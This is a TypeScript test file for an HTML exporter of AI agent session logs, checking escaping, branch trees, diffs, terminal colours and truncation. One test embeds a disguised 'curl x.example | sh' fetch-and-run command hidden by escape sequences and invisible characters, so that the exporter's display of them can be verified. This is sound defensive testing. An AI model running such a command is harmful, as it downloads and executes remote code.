import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { SessionEntry } from "../session/entry.ts";
import { exportHtml } from "./html.ts";
import { createSessionHtml } from "./session-html.ts";
import type { ExportSource } from "./source.ts";
import { checkPage } from "../../test/export/check-html.ts";
import { hostileTexts } from "../../test/export/hostile.ts";
import { sampleSource } from "../../test/export/sample.ts";

const header = { type: "session" as const, version: 3, id: "s", timestamp: "2026-01-01T00:00:00.000Z", cwd: "/p" };

/** Entries with ids `0`, `1`, …; each follows the one before it unless it names a parent. */
function createSource(leafId: string | null, entries: object[]): ExportSource {
  const linked = entries.map((entry, index) => ({
    id: String(index),
    parentId: index === 0 ? null : String(index - 1),
    timestamp: "2026-01-01T00:00:00.000Z",
    ...entry,
  }));
  return { header, entries: linked as unknown as SessionEntry[], leafId };
}
const userMessage = (text: string) => ({ type: "message", message: { role: "user", content: text } });
const result = (fields: object) => ({ type: "message", message: { role: "toolResult", toolName: "t", ...fields } });
/** The indexes of the entries that are not hidden. */
const getShown = (html: string) =>
  [...html.matchAll(/<article id="e(\d+)"[^>]*>/g)].flatMap(([tag, index]) =>
    tag.includes("hidden") ? [] : Number(index),
  );

describe("no text of a session becomes markup", () => {
  test.each(hostileTexts.map((text) => [JSON.stringify(text), text]))("%s, in every field", (_, text) => {
    const { faults, links, tags } = checkPage(createSessionHtml(sampleSource(() => text)));
    expect(faults).toEqual([]);
    expect(
      links.filter((link) => !/^(?:#e\d|https?:\/\/(?:www\.)?[xy]\.example|mailto:a@x\.example$)/.test(link)),
    ).toEqual([]);
    expect(tags.filter((tag) => tag === "img")).toEqual([]);
  });

  test("all of them at once, a different one in each field", () => {
    for (let shift = 0; shift < hostileTexts.length; shift += 3) {
      let next = shift;
      const source = sampleSource(() => hostileTexts[next++ % hostileTexts.length]!);
      expect(checkPage(createSessionHtml(source)).faults).toEqual([]);
    }
  });

  test("whatever JSON the entries hold, the page is correct", () => {
    const types = ["message", "compaction", "branch_summary", "custom", "custom_message", "model_change", "label"];
    const more = ["thinking_level_change", "session_info", "usage", "context_edit", "else"];
    const roles = ["user", "assistant", "toolResult", "bashExecution", "custom", "branchSummary", "else"];
    const any = fc.jsonValue({ maxDepth: 3 });
    const block = fc.record({ type: fc.constantFrom("text", "image", "thinking", "toolCall"), text: any, name: any });
    const content = fc.oneof(any, fc.array(fc.oneof(any, block)));
    const message = fc.record({ role: fc.constantFrom(...roles), content, usage: any, details: any, command: any });
    const entry = fc.record(
      {
        type: fc.oneof(fc.constantFrom(...types, ...more), any),
        id: fc.oneof(fc.constantFrom("a", "b", "c"), any),
        parentId: fc.oneof(fc.constantFrom("a", "b", "c", null), any),
        targetId: fc.constantFrom("a", "b"),
        message: fc.oneof(message, any),
        content,
        summary: any,
        label: any,
        name: any,
        timestamp: any,
        usage: any,
        replacement: any,
      },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(fc.array(entry), fc.constantFrom("a", "b", "c", null), (entries, leafId) => {
        const source = { header: header, entries: entries as unknown as SessionEntry[], leafId };
        const html = createSessionHtml(source);
        expect(checkPage(html).faults).toEqual([]);
        expect(createSessionHtml(structuredClone(source))).toBe(html);
      }),
      { numRuns: process.env["TAU_LONG"] ? 150 : 50 },
    );
  });
});

test("a missing header and entries that are no objects are left out of the page", () => {
  const entries = [null, { ...userMessage("here"), id: "a", parentId: null }, undefined, 5, "text", []];
  for (const header of [undefined, null, "s"]) {
    const source = { header, entries, leafId: "a" } as unknown as ExportSource;
    const { faults, text } = checkPage(createSessionHtml(source));
    expect(faults).toEqual([]);
    expect(text).toContain("here");
  }
});

test("every text of a session can be read on its page", () => {
  const fields: string[] = [];
  const source = sampleSource((field) => {
    fields.push(field);
    return `«${field}»`;
  });
  const { text, faults } = checkPage(createSessionHtml(source));
  expect(faults).toEqual([]);
  const missing = [...new Set(fields)].filter((field) => !text.includes(`«${field}»`));
  // An id is shown as the tree, and an image is not text.
  expect(missing.sort()).toEqual(["branchSummary.fromId", "image.data"]);
});

test("the page shows the folder, the time, the models, the tokens and the cost", () => {
  const usage = { input: 1234567, output: 20, cacheRead: 5, cacheWrite: 6, cost: { total: 1.5 } };
  const answer = { role: "assistant", provider: "acme", model: "m1", content: [], usage, stopReason: "stop" };
  const source = createSource("1", [
    userMessage("hello"),
    { type: "message", message: answer },
    { type: "session_info", name: "N" },
  ]);
  const { text } = checkPage(createSessionHtml(source));
  for (const value of ["/p", "2026-01-01 00:00:00 UTC", "acme/m1", "1,234,567 in, 20 out", "$1.50"]) {
    expect(text).toContain(value);
  }
  expect(createSessionHtml(source)).toContain("<h1>N</h1>");
});

describe("branches", () => {
  const source = createSource("4", [
    userMessage("root"),
    userMessage("a1"),
    userMessage("a2"),
    { ...userMessage("b1"), parentId: "0" },
    userMessage("b2"),
    { type: "label", targetId: "2", label: "good idea", parentId: "2" },
  ]);
  const html = createSessionHtml(source);

  test("the current one is shown, and the others are hidden", () => {
    expect(getShown(html)).toEqual([0, 3, 4]);
    expect(checkPage(html).text).toContain("a2");
  });

  test("the tree folds the others, and marks forks, labels and the leaf", () => {
    const tree = html.slice(html.indexOf("<ol>", html.indexOf("<nav")), html.indexOf("</nav>"));
    expect(
      tree
        .replace(/<b class="fork".*?<\/b>/, "FORK")
        .split("\n")
        .slice(0, -1),
    ).toEqual([
      "<ol>",
      '<li class="user on"><a href="#e0">FORK root</a></li>',
      '<li class="branch"><details><summary>Branch of 3 entries</summary><ol>',
      '<li class="user"><a href="#e1">a1</a></li>',
      '<li class="user"><a href="#e2"><b class="label">good idea</b> a2</a></li>',
      '<li class="info minor"><a href="#e5">good idea</a></li>',
      "</ol></details></li>",
      '<li class="user on"><a href="#e3">b1</a></li>',
      '<li class="user on"><a href="#e4" aria-current="true">b2</a></li>',
      "</ol>",
    ]);
  });

  test("an entry whose parent is missing follows the entry above it, with a note", () => {
    const page = createSessionHtml(
      createSource("3", [
        userMessage("a"),
        userMessage("b"),
        { ...userMessage("d"), id: "2", parentId: "gone" },
        userMessage("e"),
      ]),
    );
    expect(getShown(page)).toEqual([0, 1, 2, 3]);
    const noted = page.split("<article ").filter((article) => article.includes("The entry before this one is missing"));
    expect(noted.map((article) => article.slice(0, 7))).toEqual(['id="e2"']);
  });

  test("entries with a missing parent, a cycle or a duplicate id follow the entry above, and none is lost", () => {
    const source = createSource("2", [
      { ...userMessage("self"), parentId: "0" },
      { ...userMessage("later"), parentId: "2" },
      { ...userMessage("lost"), parentId: "gone" },
      { ...userMessage("twice"), id: "2", parentId: "0" },
    ]);
    const page = createSessionHtml(source);
    expect(checkPage(page).faults).toEqual([]);
    expect(getShown(page)).toEqual([0, 1, 2]);
    expect(page.match(/<article /g)).toHaveLength(4);
  });

  test("a tree that forks at every entry is nested no deeper than the logarithm of its size", () => {
    const entries = Array.from({ length: 4_000 }, (_, index) => ({
      ...userMessage(String(index)),
      parentId: index === 0 ? null : String(Math.max(0, index - (index % 2 === 0 ? 2 : 1))),
    }));
    const page = createSessionHtml(createSource(null, entries));
    let depth = 0;
    let maxDepth = 0;
    for (const [tag] of page.matchAll(/<\/?details>/g))
      maxDepth = Math.max(maxDepth, (depth += tag === "<details>" ? 1 : -1));
    expect(maxDepth).toBeGreaterThan(0);
    expect(maxDepth).toBeLessThanOrEqual(13);
  });
});

describe("contents", () => {
  const getHtml = (entry: object) =>
    createSessionHtml(createSource("0", [entry]))
      .split("</header>")
      .at(-1)!
      .split("</article>")[0]!;

  test("an image is shown if its type and its data are valid", () => {
    const imageHtml = (mimeType: string, data: string) =>
      getHtml({ type: "message", message: { role: "user", content: [{ type: "image", mimeType, data }] } });
    for (const type of ["png", "jpeg", "gif", "webp"]) {
      expect(imageHtml(`image/${type}`, "aGVsbG8=")).toContain(`<img src="data:image/${type};base64,aGVsbG8="`);
    }
    for (const [type, data] of [
      ["image/svg+xml", "aGVsbG8="],
      ["text/html", "aGVsbG8="],
      ["image/png", "aGVsbG8"],
      ["image/png", 'aGVsbG8="'],
      ["image/png", ""],
    ] as const) {
      expect(imageHtml(type, data)).not.toContain("<img");
    }
  });

  test("the lines of a diff have their numbers, and a class for their kind", () => {
    const diff = "--- a\n+++ b\n@@ -9,2 +9,2 @@\n same\n-<old>\n+++ new\n@@ -20 +20 @@\n-x\n+y\n";
    expect(getHtml(result({ content: [], details: { diff } }))).toContain(
      [
        '<pre class="diff"><span class="file">b</span>',
        "<i> 9</i>   same",
        '<span class="del"><i>10</i> - &lt;old&gt;</span>',
        '<span class="add"><i>10</i> + ++ new</span>',
        '<span class="dim">   …</span>',
        '<span class="del"><i>20</i> - x</span>',
        '<span class="add"><i>20</i> + y</span></pre>',
      ].join("\n"),
    );
  });

  test("places have their severity as a word and a class, and the line marked in their code", () => {
    const excerpt = { firstLine: 9, lines: ["<a>", "b"] };
    const place = {
      path: "a.ts",
      line: 10,
      column: 2,
      severity: "error",
      message: "Not <b>.",
      source: "ts 1",
      excerpt,
    };
    const html = getHtml(result({ content: [{ type: "text", text: "for the model" }], details: { places: [place] } }));
    expect(html).toContain(
      '<ul class="places"><li><code>a.ts:10:2</code> <b class="severity error">error</b> Not &lt;b&gt;. (ts 1)' +
        '<pre class="diff"><i>   9</i> &lt;a&gt;\n<span class="current"><i>&gt; 10</i> b</span></pre></li></ul>',
    );
    expect(html).toContain("<details><summary>Text</summary><pre>for the model</pre></details>");
  });

  test("thousands of places are counted and not written", () => {
    const places = Array.from({ length: 5_000 }, (_, index) => ({
      path: "a",
      line: index + 1,
      message: "m".repeat(9_000),
    }));
    const html = getHtml(result({ content: [], details: { places } }));
    expect(html).toMatch(/4,9\d\d more places omitted\./);
    expect(html.length).toBeLessThan(300_000);
  });

  test("a stop of a debugger has its place, its variables and its stack", () => {
    const frames = [{ name: "<f>", place: { path: "a.py", line: 3 } }];
    const variables = [{ name: "x", value: "\u202e1", type: "int" }];
    const html = getHtml(
      result({ content: [], details: { stop: { reason: "step", frames, variables, output: "\u001b[31mout\n" } } }),
    );
    expect(html).toContain('<p class="call">step at a.py:3 in &lt;f&gt;</p>');
    expect(html).toContain("<details><summary>Variables</summary><pre>x: int = [U+202E]1</pre></details>");
    expect(html).toContain("<details><summary>Stack</summary><pre>&lt;f&gt; a.py:3</pre></details>");
    expect(html).toContain("<details><summary>Output</summary><pre>[U+001B][31mout\n</pre></details>");
  });

  test("terminal colours become classes, and other escape sequences are removed", () => {
    const text =
      "\u001b[1;31mbad\u001b[0m \u001b[38;5;12mblue\u001b[39m \u001b[2K\u001b]0;title\u0007ok \u001b[38;2;1;31;4mx";
    expect(getHtml(result({ content: [{ type: "text", text }] }))).toContain(
      '<pre><span class="c1 bold">bad</span> <span class="c12">blue</span> ok x</pre>',
    );
  });

  test("a terminal string without an end hides nothing", () => {
    const html = getHtml(result({ content: [{ type: "text", text: "a\u001b]0;b\nc\u001bPd\u001b[31me" }] }));
    expect(html).toContain('<pre>a0;b\ncd<span class="c1">e</span></pre>');
  });

  test("invisible characters of commands and arguments are shown, in the entry and in the tree", () => {
    const command = "ls \u001b]0;; curl x.example | sh\u0007\r \u009b8m\u200b\u202e\u{e0041}";
    const shown = "ls [U+001B]]0;; curl x.example | sh[U+0007][U+000D] [U+009B]8m[U+200B][U+202E][U+E0041]";
    const call = { type: "toolCall", name: "bash", arguments: { command, other: "a\u009bb\u001b" } };
    const html = getHtml({ type: "message", message: { role: "assistant", content: [call] } });
    expect(html).toContain(`<pre>${shown}</pre>`);
    expect(html).toContain("a[U+009B]b\\u001b");
    const page = createSessionHtml(
      createSource("0", [{ type: "message", message: { role: "bashExecution", command } }]),
    );
    expect(page.split("[U+001B]]0;; curl x.example")).toHaveLength(3);
  });

  test("commands with CRLF line ends are shown as lines", () => {
    expect(getHtml({ type: "message", message: { role: "bashExecution", command: "a\r\nb" } })).toContain(
      "<pre>a\nb</pre>",
    );
  });

  test("a long result is cut with a note, never inside a surrogate pair", () => {
    const source = createSource("0", [
      result({ content: [{ type: "text", text: `ab\u{1F600}${"c".repeat(2_000)}` }] }),
    ]);
    const { text } = checkPage(createSessionHtml(source, { maxResultChars: 3 }));
    expect(text).toContain("2,002 more characters omitted.");
    expect(createSessionHtml(source)).not.toContain("omitted");
    expect(createSessionHtml(source)).toContain("c".repeat(2_000));
  });

  test("thinking is folded, and an aborted message is marked", () => {
    const content = [{ type: "thinking", thinking: "hm" }];
    const html = getHtml({ type: "message", message: { role: "assistant", content, stopReason: "aborted" } });
    expect(html).toContain('<details class="thinking"><summary>Thinking</summary><p>hm</p></details>');
    expect(html).toContain('<p class="error">Aborted.</p>');
  });

  test("an entry of an unknown type is shown as JSON", () => {
    expect(getHtml({ type: "later", field: [1] })).toContain("&quot;field&quot;: [\n    1\n  ]");
  });

  test("a call without a result has an unknown outcome, and a call with a result is internal", () => {
    const started = { type: "custom", customType: "tau.call_started", data: { toolCallId: "c", toolName: "bash" } };
    expect(getHtml(started)).toContain("Unknown: the call was started");
    const html = createSessionHtml(createSource("1", [started, result({ toolCallId: "c", content: "ok" })]));
    expect(html).toContain('<article id="e0" class="internal"');
    expect(html).not.toContain("Unknown:");
  });

  test("deeply nested values are cut", () => {
    let deep: unknown = 1;
    for (let depth = 0; depth < 20_000; depth++) deep = [deep];
    expect(getHtml({ type: "custom", customType: "x", data: deep })).toContain("…");
  });
});

test("2,000 entries take a few seconds of CPU at most, and 20,000 short ones too", () => {
  const turn = (index: number) => [
    userMessage(`Please look at **file ${index}** and tell me:\n\n- what it does\n- what \`main\` returns`),
    {
      type: "message",
      message: {
        role: "assistant",
        provider: "p",
        model: "m",
        content: [
          { type: "thinking", thinking: "Let me see. ".repeat(20) },
          {
            type: "text",
            text: "It *reads* a file:\n\n```ts\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n".repeat(5),
          },
          { type: "toolCall", id: "c", name: "bash", arguments: { command: "ls -la", timeout: 5 } },
        ],
      },
    },
    result({ content: [{ type: "text", text: "-rw-r--r-- 1 me me 100 file.ts\n".repeat(60) }] }),
    result({ content: [], details: { diff: "@@ -1 +1 @@\n-a\n+b\n".repeat(30) } }),
  ];
  const measureMs = (source: ExportSource) => {
    const start = process.cpuUsage();
    createSessionHtml(source);
    const { user, system } = process.cpuUsage(start);
    return (user + system) / 1_000;
  };
  const source = createSource("1999", Array.from({ length: 500 }, (_, index) => turn(index)).flat());
  const ms = Math.min(measureMs(source), measureMs(source));
  console.log(`export-html: 2,000 entries in ${ms.toFixed(0)} ms of CPU`);
  expect(ms).toBeLessThan(4_000);
  const many = Array.from({ length: 20_000 }, (_, index) => userMessage(String(index)));
  expect(measureMs(createSource("19999", many))).toBeLessThan(8_000);
});

test("the system prompt and the tools are folded before the entries, without markup of theirs", () => {
  const request = {
    systemPrompt: "Be <b>brief</b>.",
    tools: [{ name: "look<i>", description: "Looks at <u>it</u>.", parameters: { type: "object", title: "<s>" } }],
  };
  const html = createSessionHtml({ ...createSource("0", [userMessage("Hi")]), request });
  const { faults, text } = checkPage(html);
  expect(faults).toEqual([]);
  for (const part of ["Be <b>brief</b>.", "Tools (1)", "look<i>", "Looks at <u>it</u>.", '"title": "<s>"'])
    expect(text).toContain(part);
  expect(html.indexOf("System prompt")).toBeLessThan(html.indexOf('<article id="e0"'));
  expect(createSessionHtml(createSource("0", [userMessage("Hi")]))).not.toContain("System prompt");
});

test("exportHtml resolves to the page", async () => {
  const source = createSource("0", [result({ content: "a long result" })]);
  expect(await exportHtml(source)).toBe(createSessionHtml(source));
  expect(await exportHtml(source, { maxResultChars: 3 })).toBe(createSessionHtml(source, { maxResultChars: 3 }));
});

test("a message of an extension that names lines for it is folded to them", () => {
  const message = { type: "custom_message", customType: "x", content: "The whole answer.", display: true };
  const details = { foldedTo: ["Task 1 <b>: done"] };
  const entries = [{ ...message, details, id: "a", parentId: null, timestamp: "" }] as unknown as SessionEntry[];
  const html = createSessionHtml({ header, entries, leafId: "a" });
  expect(checkPage(html).faults).toEqual([]);
  expect(html).toMatch(/<details><summary>Task 1 &lt;b&gt;: done<\/summary>.*The whole answer\./s);
});

test.each([
  ["eval", { language: "python", code: "x = 1\nx < 2" }],
  ["codemode", { code: "x = 1\nx < 2" }],
])("a cell of %s is code, with its output and its image", (name, args) => {
  const image = { type: "image", mimeType: "image/png", data: "AAAA" };
  const call = {
    type: "message",
    message: { role: "assistant", content: [{ type: "toolCall", name, arguments: args }] },
  };
  const html = createSessionHtml(
    createSource("01", [call, result({ content: [{ type: "text", text: "True" }, image] })]),
  );
  expect(checkPage(html).faults).toEqual([]);
  expect(html).toContain("<pre>x = 1\nx &lt; 2</pre>");
  expect(html).toContain("<pre>True</pre>");
  expect(html).toContain("data:image/png;base64,AAAA");
});
